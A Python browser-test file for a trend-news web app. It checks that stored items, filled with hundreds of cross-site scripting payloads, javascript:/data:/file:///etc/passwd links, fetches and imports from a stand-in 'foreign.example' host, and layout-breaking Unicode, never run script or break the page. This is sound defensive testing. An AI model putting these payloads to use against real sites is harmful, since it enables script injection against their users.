"""Texts that want to break out of the page, of its layout or of their line: none does anything or goes anywhere."""

from collections.abc import AsyncIterator
from datetime import timedelta
from itertools import product

import pytest
import pytest_asyncio
from looking import MISSING, TOO_WIDE, Eyes, View
from newsroom import NOON, ranked, take_in
from serving import Served, served

from trend_agent.items import Item, digest

pytestmark = pytest.mark.asyncio(loop_scope="module")

DO = (
    "broken()", "alert(1)", "top.broken()", "setTimeout('broken()')", "eval('broken()')",
    "fetch('//foreign.example')", "new Image().src='//foreign.example/x'", "document.title='broken'",
    "location='//foreign.example'", "import('//foreign.example/x.js')",
)  # fmt: skip
MARKUP = (
    "<script>{}</script>", "<ScRiPt/x>{}</ScRiPt>", "<img src=x onerror={}>", "<svg onload={}>",
    "<svg/onload={}//", "<iframe srcdoc='<script>{}</script>'>", "<iframe src='javascript:{}'>",
    "<a href='javascript:{}'>x</a>", "<body onload={}>", "<input autofocus onfocus={}>",
    "<details open ontoggle={}>", "<video><source onerror={}>", "<math><mtext><script>{}</script>",
    "<object data='javascript:{}'>", "<embed src='javascript:{}'>", "<form action='javascript:{}'><button>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<style>@import '//foreign.example';</style>{}",
    "<link rel=stylesheet href=//foreign.example>{}", "<base href='//foreign.example/'>{}",
    "</title><script>{}</script>", "</textarea><script>{}</script>", "--><script>{}</script>",
    "]]><script>{}</script>", "'\"><script>{}</script>", "\"onmouseover=\"{}\" x=\"",
    "' onfocus='{}' autofocus='", "`${{{}}}`", "{{{{constructor.constructor('{}')()}}}}", "{{{{{}}}}}",
    "${{{}}}", "<%= {} %>", "<!--[if gte IE 4]><script>{}</script>",
    "<xss style=animation-name:x onanimationstart={}>", "<marquee onstart={}>",
    "<select><style></select><img src=x onerror={}>", "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}&#60;/script&#62;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e", "%3Cscript%3E{}%3C/script%3E",
    "\x3cscript\x3e{}\x3c/script\x3e", "<svg><animate onbegin={} attributeName=x>", "<svg><set onbegin={}>",
    "<img src='//foreign.example/a.png' alt='{}'>", "<audio src='//foreign.example/a.mp3' onerror={}>",
    "<a href='data:text/html,<script>{}</script>'>", "[x](javascript:{})", "![x](//foreign.example/x.png){}",
    "{{\"__proto__\":{{\"x\":\"{}\"}}}}",
)  # fmt: skip
LINKS = (
    "javascript:{}", "JAVASCRIPT:{}", "java\tscript:{}", "\x01javascript:{}",
    "data:text/html,<script>{}</script>", "vbscript:{}", "//foreign.example/{}", "blob:{}",
    "file:///etc/passwd#{}", "https://foreign.example/\"onclick=\"{}",
)  # fmt: skip
LAYOUT = (
    "W" * 10_000, "ا" * 10_000, "语" * 10_000, "word " * 2_000, "\u202e" + "right to left " * 20,
    "\u2067\u202e\u2066" * 60 + "isolates", "Z" + "\u0300\u0301\u0302\u0303\u0304\u0305" * 300,
    "\u200b\u200d\ufeff" * 200, "👨‍👩‍👧‍👦" * 300, "﷽" * 200, "\n" * 300 + "lines", "𒐫" * 200,
)  # fmt: skip

VECTORS = [m.format(d) for m, d in product(MARKUP, DO)] + list(LAYOUT)
EACH = 26
"""Vectors of one topic."""


def hostile(number: int, text: str) -> Item:
    """An item all of whose texts are hostile; those that tell things apart stay different."""
    link = LINKS[number % len(LINKS)].format(DO[number % len(DO)])
    return Item(
        id=f"odd:{digest(text, str(number))}",
        source=f"{text[:150]}{number % 7}",
        title=text,
        body=f"{text} Another sentence: {text[:300]}. And {link}.",
        url=link,
        author=text[:200],
        lang="en",
        seen_at=NOON - timedelta(minutes=number % 170),
        published_at=NOON - timedelta(minutes=number % 170 + 1),
    )


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def odd_site(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Served]:
    """Topics of nothing but hostile items, ranked as any other."""
    with served(tmp_path_factory.mktemp("odd"), filled=False) as here:
        for start in range(0, len(VECTORS), EACH):
            told = [(hostile(start + n, text), None) for n, text in enumerate(VECTORS[start : start + EACH])]
            await take_in(here.desk.records, f"t{start}", told)
        await here.desk.records.publish(await ranked(here.desk.records, NOON))
        yield here


async def listen(view: View) -> list[str]:
    """What the texts managed to call."""
    called: list[str] = []
    await view.page.expose_function("broken", lambda *_: called.append("broken"))
    view.page.on("dialog", lambda dialog: called.append(dialog.message))
    return called


async def test_there_are_enough_vectors() -> None:
    assert len(set(VECTORS)) >= 500


async def test_the_list_runs_nothing_and_holds_its_layout(eyes: Eyes, odd_site: Served) -> None:
    for width in (390, 1280):
        async with eyes.view(odd_site.address, width=width) as view:
            called = await listen(view)
            page = await view.go("/")
            await page.locator(".row").first.wait_for()
            heights = await page.evaluate(
                "() => [...new Set([...document.querySelectorAll('.row')].map(r => r.offsetHeight))]"
            )
            assert len(heights) == 1
            assert await page.evaluate(TOO_WIDE) == []
            await page.locator("input[type=search]").fill("<script>")
            await page.locator(".archive li, .empty, .row").first.wait_for()
            assert await page.evaluate(TOO_WIDE) == []
            assert (called, await page.title()) == ([], "Trend Agent")
            view.quiet()


async def test_no_trend_page_runs_anything_or_leads_anywhere_it_should_not(
    eyes: Eyes, odd_site: Served
) -> None:
    topics = [f"t{start}" for start in range(0, len(VECTORS), EACH)]
    bad = """() => [...document.querySelectorAll('a[href], [src], form[action]')]
      .map(e => e.href || e.src || e.action)
      .filter(a => !a.startsWith(location.origin) && !/^https:[/][/]foreign[.]example[/]/.test(a))"""
    async with eyes.view(odd_site.address, width=900, height=700) as view:
        called = await listen(view)
        for topic in topics:
            page = await view.go(f"/trends/{topic}")
            await page.locator(".groups .item").first.wait_for()
            await page.evaluate("() => document.querySelectorAll('details').forEach(d => { d.open = true })")
            assert await page.evaluate(TOO_WIDE) == []
            assert await page.evaluate(bad) == []
            assert "broken" not in (await page.title()).split(" · ")[-1]
        assert called == []
        view.quiet(but=MISSING)


async def test_the_longest_titles_stay_within_their_bounds_on_a_phone(eyes: Eyes, odd_site: Served) -> None:
    last = f"t{(len(VECTORS) - 1) // EACH * EACH}"
    async with eyes.view(odd_site.address, width=390) as view:
        page = await view.go(f"/trends/{last}")
        await page.locator(".groups .item").first.wait_for()
        assert await page.evaluate(TOO_WIDE) == []
        tall = """() => [...document.querySelectorAll('.item .title, .one h1')]
          .filter(e => e.offsetHeight > 360).length"""
        assert await page.evaluate(tall) == 0
        view.quiet(but=MISSING)
